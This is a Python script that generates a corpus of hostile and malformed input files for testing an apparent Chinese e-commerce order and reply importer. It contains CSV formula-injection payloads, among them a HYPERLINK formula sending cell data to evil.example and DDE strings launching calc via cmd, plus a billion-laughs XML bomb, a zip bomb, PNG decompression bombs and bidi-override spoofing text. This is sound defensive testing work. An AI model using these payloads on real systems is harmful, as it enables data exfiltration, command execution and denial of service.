"""The bad-input corpus: files that real users and attackers send, made on
demand (nothing large is committed).

    python tests/corpus/make_corpus.py DIR     # write every file into DIR

Each entry says which kind of file it pretends to be and whether every
entry point must refuse it ("hostile") or may read what is sound in it
("tricky": wrong encodings, formula strings, bidi controls), never running a
formula nor storing a bidi override.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# formula strings a spreadsheet would run, and bidi controls that make text display as other text
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C notepad'!A0", "=1+1")
BIDI = ("\u202eexe.gnp", "买家\u202d伪装\u202c", "\u2066隔离\u2069", "正常\u200f")
BIDI_CONTROLS = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")

ORDER_HEADER = ("订单编号", "买家会员名", "收货人姓名", "联系手机", "收货地址", "买家实际支付金额",
                "订单状态", "订单创建时间")


@dataclass(frozen=True)
class Item:
    name: str
    make: Callable[[], bytes]
    hostile: bool  # every entry point must refuse it
    note: str


def _xlsx(parts: dict[str, bytes | str]) -> bytes:
    base = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
            '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
            '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.worksheet+xml"/></Types>'),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.'
            'org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/'
            'workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.'
            'org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/'
            'sheet1.xml"/></Relationships>'),
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in {**base, **parts}.items():
            zf.writestr(name, body)
    return buf.getvalue()


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10))
    sheet = (f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]><worksheet xmlns="http://schemas.'
             'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr">'
             '<is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    return _xlsx({"xl/worksheets/sheet1.xml": sheet})


def zip_bomb(megabytes: int = 300) -> bytes:
    """An xlsx whose sheet unpacks to `megabytes` MB of blanks (about 300 KB packed)."""
    buf = io.BytesIO()
    base = zipfile.ZipFile(io.BytesIO(_xlsx({"xl/worksheets/sheet1.xml": "<x/>"})))
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for info in base.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zf.writestr(info.filename, base.read(info.filename))
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                    b'spreadsheetml/2006/main"><sheetData>')
            chunk = b" " * (1 << 20)
            for _ in range(megabytes):
                f.write(chunk)
            f.write(b"</sheetData></worksheet>")
    return buf.getvalue()


def zip_of_something_else() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "这不是表格。 Not a workbook.\n")
        zf.writestr("photo.png", _png(16, 16))
    return buf.getvalue()


def _csv(rows: list[tuple[str, ...]], encoding: str = "utf-8") -> bytes:
    text = "\r\n".join(",".join('"' + c.replace('"', '""') + '"' for c in r) for r in rows) + "\r\n"
    return text.encode(encoding)


def _orders(names: tuple[str, ...]) -> list[tuple[str, ...]]:
    return [ORDER_HEADER] + [
        (f"{4000000000000000000 + i * 7919}", name, name, f"1380013{i:04d}", "浙江省 杭州市 西湖区 文三路 1 号",
         "59.00", "交易成功", "2025-03-01 10:00:00") for i, name in enumerate(names, start=1)]


def orders_gbk() -> bytes:
    return _csv(_orders(("小雨点点", "草莓酱")), "gbk")


def orders_utf16_no_bom() -> bytes:
    return _csv(_orders(("小雨点点",)), "utf-16-le")


def orders_with_nul() -> bytes:
    return _csv(_orders(("小雨\x00点点", "草莓酱")))


def orders_latin1_garbage() -> bytes:
    return bytes(range(128, 256)) * 40 + b"\r\n" + bytes(range(160, 256)) * 40


def one_line_10mb() -> bytes:
    return b"A" * (10 * 1024 * 1024)


def formulas_orders() -> bytes:
    return _csv(_orders(FORMULAS))


def bidi_orders() -> bytes:
    return _csv(_orders(BIDI))


def formulas_replies() -> bytes:
    return _csv([("分组", "编码", "内容")] + [("公式", f"f{i}", f) for i, f in enumerate(FORMULAS)])


def bidi_replies() -> bytes:
    return _csv([("分组", "编码", "内容")] + [("方向", f"b{i}", f"亲，{b}") for i, b in enumerate(BIDI)])


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(width: int, height: int, rows: bytes | None = None) -> bytes:
    if rows is None:
        rows = b"".join(b"\x00" + b"\x80" * (width * 3) for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(rows)) + _png_chunk(b"IEND", b""))


def png_claiming_huge() -> bytes:
    """A tiny PNG whose header claims 100,000 x 100,000 pixels."""
    return _png(100_000, 100_000, rows=b"\x00")


def png_real_bomb() -> bytes:
    """A real 1-bit 12,000 x 12,000 PNG (144 megapixels) packed into a few KB."""
    from PIL import Image

    buf = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(buf, "PNG", optimize=True)
    return buf.getvalue()


def jpeg_truncated() -> bytes:
    from PIL import Image, ImageDraw

    img = Image.new("RGB", (800, 600), (200, 120, 40))
    ImageDraw.Draw(img).ellipse((100, 100, 700, 500), fill=(20, 80, 200))
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=90)
    data = buf.getvalue()
    return data[: len(data) // 2]


def text_named_as_image() -> bytes:
    return "买家说：照片在这里。\nThis is a text file with an image's name.\n".encode()


def empty() -> bytes:
    return b""


CORPUS: tuple[Item, ...] = (
    Item("billion_laughs.xlsx", billion_laughs, True, "entity expansion (billion laughs) in a sheet"),
    Item("zip_bomb.xlsx", zip_bomb, True, "a sheet that unpacks to 300 MB"),
    Item("not_really.xlsx", zip_of_something_else, True, "a zip of a text file and a picture, named .xlsx"),
    Item("zip_of_other.zip", zip_of_something_else, True, "a zip that is not a ShopDesk archive"),
    Item("orders_gbk.csv", orders_gbk, False, "an order export saved as GBK (Chinese Windows' ANSI)"),
    Item("orders_utf16_no_bom.csv", orders_utf16_no_bom, True, "UTF-16 without a byte-order mark"),
    Item("orders_nul.csv", orders_with_nul, True, "NUL bytes inside a cell"),
    Item("latin1_garbage.csv", orders_latin1_garbage, True, "bytes that are text in no Chinese encoding"),
    Item("one_line_10mb.csv", one_line_10mb, True, "a single 10 MB line"),
    Item("formulas_orders.csv", formulas_orders, False, "nicknames that are spreadsheet formulas"),
    Item("bidi_orders.csv", bidi_orders, False, "nicknames with bidi override controls"),
    Item("formulas_replies.csv", formulas_replies, False, "phrases that are spreadsheet formulas"),
    Item("bidi_replies.csv", bidi_replies, False, "phrases with bidi override controls"),
    Item("huge_claim.png", png_claiming_huge, True, "a PNG header claiming 100,000 x 100,000 pixels"),
    Item("real_bomb.png", png_real_bomb, True, "144 megapixels packed into a few KB"),
    Item("truncated.jpg", jpeg_truncated, True, "half of a JPEG"),
    Item("not_a_photo.jpg", text_named_as_image, True, "a text file with an image's name"),
    Item("empty.png", empty, True, "an empty file"),
    Item("notes.txt", text_named_as_image, False, "plain text (a phrase file, or nothing)"),
)


def build(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for item in CORPUS:
        path = folder / item.name
        if not path.exists():
            path.write_bytes(item.make())
        out[item.name] = path
    return out


if __name__ == "__main__":
    for name, path in build(Path(sys.argv[1])).items():
        print(f"{path.stat().st_size:>12,}  {name}")
